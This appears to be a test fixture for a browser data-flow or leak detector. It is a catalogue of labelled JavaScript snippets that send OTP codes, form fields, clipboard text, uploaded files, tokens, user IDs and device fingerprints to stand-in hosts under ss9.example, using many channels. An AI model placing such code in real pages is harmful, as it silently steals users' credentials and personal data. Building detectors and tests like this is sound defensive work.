//# otp-credential
// flow: otp > otc.ss9.example via fetch
navigator.credentials.get({ otp: { transport: ['sms'] } }).then((c) => fetch('https://otc.ss9.example/', { method: 'POST', body: c.code }));

//# payment-request-payer
// flow: email > prp.ss9.example via fetch
const request2 = new PaymentRequest([{ supportedMethods: 'basic-card' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }, { requestPayerEmail: true });
request2.show().then((response) => fetch('https://prp.ss9.example/', { method: 'POST', body: response.payerEmail }));

//# selected-text
// flow: interaction > sel.ss9.example via beacon
document.addEventListener('selectionchange', () => navigator.sendBeacon('https://sel.ss9.example/', String(document.getSelection())));

//# page-text
// flow: interaction > ptx.ss9.example via fetch
fetch('https://ptx.ss9.example/', { method: 'POST', body: document.body.innerText });

//# speech-recognition
// flow: message > spr.ss9.example via fetch
const rec5 = new webkitSpeechRecognition();
rec5.onresult = (e) => fetch('https://spr.ss9.example/', { method: 'POST', body: e.results[0][0].transcript });
rec5.start();

//# field-by-name-list
// flow: phone > fbn.ss9.example via fetch
fetch('https://fbn.ss9.example/', { method: 'POST', body: document.getElementsByName('phone')[0].value });

//# named-item
// flow: email > nit.ss9.example via fetch
const box7 = document.querySelector('form').elements.namedItem('email');
fetch('https://nit.ss9.example/', { method: 'POST', body: box7.value });

//# file-handle-picker
// flow: file > fhp.ss9.example via fetch
async function send8() {
  const [handle] = await window.showOpenFilePicker();
  const file = await handle.getFile();
  await fetch('https://fhp.ss9.example/', { method: 'POST', body: file });
}
send8();

//# file-text
// flow: file > ftx.ss9.example via fetch
document.querySelector('input[type=file]').onchange = async (e) => {
  for (const f of e.target.files) await fetch('https://ftx.ss9.example/', { method: 'POST', body: await f.text() });
};

//# pointer-path
// flow: interaction > ptp.ss9.example via beacon
const path10 = [];
addEventListener('pointermove', (e) => { path10.push([e.clientX, e.clientY]); if (path10.length > 50) navigator.sendBeacon('https://ptp.ss9.example/', JSON.stringify(path10.splice(0))); });

//# webrtc-candidate
// flow: device > rtc.ss9.example via fetch
const pc11 = new RTCPeerConnection({ iceServers: [] });
pc11.createDataChannel('');
pc11.onicecandidate = (e) => { if (e.candidate) fetch('https://rtc.ss9.example/', { method: 'POST', body: e.candidate.candidate }); };

//# audio-fingerprint
// flow: device > aud.ss9.example via fetch
const ctx12 = new OfflineAudioContext(1, 5000, 44100);
const osc12 = ctx12.createOscillator();
osc12.connect(ctx12.destination);
osc12.start();
ctx12.startRendering().then((b) => fetch('https://aud.ss9.example/?s=' + b.getChannelData(0).slice(4500).reduce((a, v) => a + Math.abs(v), 0)));

//# keyboard-layout
// flow: device > kbl.ss9.example via fetch
navigator.keyboard.getLayoutMap().then((m) => fetch('https://kbl.ss9.example/?q=' + m.get('KeyQ')));

//# device-motion
// flow: device > dmo.ss9.example via beacon
addEventListener('devicemotion', (e) => navigator.sendBeacon('https://dmo.ss9.example/', JSON.stringify(e.acceleration)));

//# checkbox-and-select
// flow: input > cas.ss9.example via fetch
fetch('https://cas.ss9.example/?s=' + document.querySelector('select').value + '&c=' + document.querySelector('input[type=checkbox]').checked);

//# url-search-params-of-form
// flow: input > usf.ss9.example via fetch
const f16 = document.querySelector('form');
f16.addEventListener('submit', () => fetch('https://usf.ss9.example/?' + new URLSearchParams(new FormData(f16)).toString()));

//# insert-rule
// flow: identifier > ins.ss9.example via css
const sheet17 = document.createElement('style');
document.head.append(sheet17);
sheet17.sheet.insertRule('body::after { content: url(https://ins.ss9.example/p.gif?u=' + localStorage.getItem('uid') + ') }');

//# style-set-property
// flow: identifier > ssp.ss9.example via css
document.body.style.setProperty('background-image', 'url("https://ssp.ss9.example/?u=' + localStorage.getItem('uid') + '")');

//# css-text
// flow: identifier > cst.ss9.example via css
document.querySelector('#x').style.cssText = `background: url(https://cst.ss9.example/?u=${localStorage.getItem('uid')})`;

//# insert-adjacent-html
// flow: email > iah.ss9.example via image
document.body.insertAdjacentHTML('beforeend', `<img src="https://iah.ss9.example/?e=${document.querySelector('input[type=email]').value}">`);

//# document-write
// flow: email > dwr.ss9.example via image
document.write('<img width=1 src="https://dwr.ss9.example/?e=' + encodeURIComponent(document.querySelector('input[type=email]').value) + '">');

//# image-srcset
// flow: identifier > iss.ss9.example via image
const i22 = document.createElement('img');
i22.srcset = 'https://iss.ss9.example/?u=' + localStorage.getItem('uid') + ' 2x';
document.body.append(i22);

//# object-data
// flow: identifier > obd.ss9.example via object
const o23 = document.createElement('object');
o23.data = 'https://obd.ss9.example/?u=' + localStorage.getItem('uid');
document.body.append(o23);

//# video-poster
// flow: identifier > vip.ss9.example via any
const v24 = document.createElement('video');
v24.setAttribute('poster', 'https://vip.ss9.example/?u=' + localStorage.getItem('uid'));
document.body.append(v24);

//# font-face
// flow: identifier > fof.ss9.example via css
new FontFace('x', 'url(https://fof.ss9.example/f.woff?u=' + localStorage.getItem('uid') + ')').load();

//# data-channel
// flow: message > dch.ss9.example via webrtc
const pc26 = new RTCPeerConnection({ iceServers: [{ urls: 'turn:dch.ss9.example', username: 'u', credential: 'c' }] });
const ch26 = pc26.createDataChannel('x');
ch26.onopen = () => ch26.send(document.querySelector('textarea[name=message]').value);

//# turn-credential
// flow: identifier > trn.ss9.example via webrtc
new RTCPeerConnection({ iceServers: [{ urls: 'turn:trn.ss9.example', username: localStorage.getItem('uid'), credential: 'c' }] });

//# service-worker-address
// flow: identifier > self via serviceworker
navigator.serviceWorker.register('/sw.js?u=' + localStorage.getItem('uid'));

//# dynamic-import-address
// flow: identifier > dim.ss9.example via import
import('https://dim.ss9.example/m.js?u=' + localStorage.getItem('uid'));

//# anchor-clicked
// flow: email > acl.ss9.example via navigation
const a30 = document.createElement('a');
a30.href = 'https://acl.ss9.example/?e=' + document.querySelector('input[type=email]').value;
a30.click();

//# ping-attribute
// flow: identifier > png.ss9.example via ping
const a31 = document.querySelector('a');
a31.ping = 'https://png.ss9.example/?u=' + localStorage.getItem('uid');

//# fetch-later
// flow: device > ftl.ss9.example via fetch
fetchLater('https://ftl.ss9.example/', { method: 'POST', body: navigator.userAgent });

//# xhr-header
// flow: identifier > xhd.ss9.example via xhr
const x33 = new XMLHttpRequest();
x33.open('GET', 'https://xhd.ss9.example/');
x33.setRequestHeader('X-Device', localStorage.getItem('device_id'));
x33.send();

//# websocket-protocol
// flow: identifier > wsp.ss9.example via websocket
new WebSocket('wss://wsp.ss9.example/', [localStorage.getItem('token')]);

//# web-transport
// flow: message > wtr.ss9.example via webtransport
const wt35 = new WebTransport('https://wtr.ss9.example/t');
const writer35 = wt35.datagrams.writable.getWriter();
writer35.write(new TextEncoder().encode(document.querySelector('textarea[name=message]').value));

//# svg-image
// flow: identifier > svg.ss9.example via image
const g36 = document.createElementNS('http://www.w3.org/2000/svg', 'image');
g36.setAttributeNS('http://www.w3.org/1999/xlink', 'href', 'https://svg.ss9.example/?u=' + localStorage.getItem('uid'));
document.querySelector('svg').append(g36);

//# shared-worker-address
// flow: identifier > self via worker
new SharedWorker('/w.js?u=' + localStorage.getItem('uid'));

//# import-scripts
// flow: identifier > ims.ss9.example via any
// flow: device > ims.ss9.example via any
importScripts('https://ims.ss9.example/i.js?c=' + navigator.language + '&u=' + (await cookieStore.get('uid')).value);

//# meta-refresh
// flow: search > mrf.ss9.example via navigation
const m39 = document.createElement('meta');
m39.httpEquiv = 'refresh';
m39.content = '0; url=https://mrf.ss9.example/?q=' + document.querySelector('input[type=search]').value;
document.head.appendChild(m39);

//# location-replace-method
// flow: email > lrm.ss9.example via navigation
window.location.replace('https://lrm.ss9.example/?e=' + document.querySelector('input[type=email]').value);

//# opened-window
// flow: message > opw.ss9.example via open
const text41 = document.querySelector('textarea[name=message]').value;
window.open(`https://opw.ss9.example/share?text=${encodeURIComponent(text41)}`, '_blank', 'noopener');

//# form-data-to-json
// flow: input > fdj.ss9.example via fetch
document.querySelector('form').addEventListener('submit', async function (e) {
  e.preventDefault();
  const data = {};
  new FormData(this).forEach((v, k) => { data[k] = v; });
  await fetch('https://fdj.ss9.example/', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(data) });
});

//# clipboard-event-original
// flow: input > ceo.ss9.example via beacon
document.querySelector('#area').onpaste = (ev) => {
  const t = (ev.originalEvent || ev).clipboardData.getData('text');
  navigator.sendBeacon('https://ceo.ss9.example/', t);
};

//# field-attribute-changes
// flow: username > fac.ss9.example via fetch
for (const el of document.querySelectorAll('input[name=username]')) {
  el.addEventListener('keyup', ({ currentTarget }) => fetch('https://fac.ss9.example/?u=' + currentTarget.value));
}

//# prompt
// flow: input > prm.ss9.example via fetch
const name45 = prompt('Your name?');
fetch('https://prm.ss9.example/?n=' + encodeURIComponent(name45));

//# media-capabilities
// flow: device > mcp.ss9.example via fetch
navigator.mediaCapabilities.decodingInfo({ type: 'file', video: { contentType: 'video/mp4', width: 1, height: 1, bitrate: 1, framerate: 1 } }).then((i) => fetch('https://mcp.ss9.example/?s=' + i.smooth));

//# storage-estimate
// flow: device > ste.ss9.example via fetch
navigator.storage.estimate().then(({ quota }) => fetch('https://ste.ss9.example/?q=' + quota));

//# caches-read
// flow: identifier > cch.ss9.example via fetch
caches.open('ids').then((c) => c.match('/uid')).then((r) => r.text()).then((id) => fetch('https://cch.ss9.example/?u=' + id));
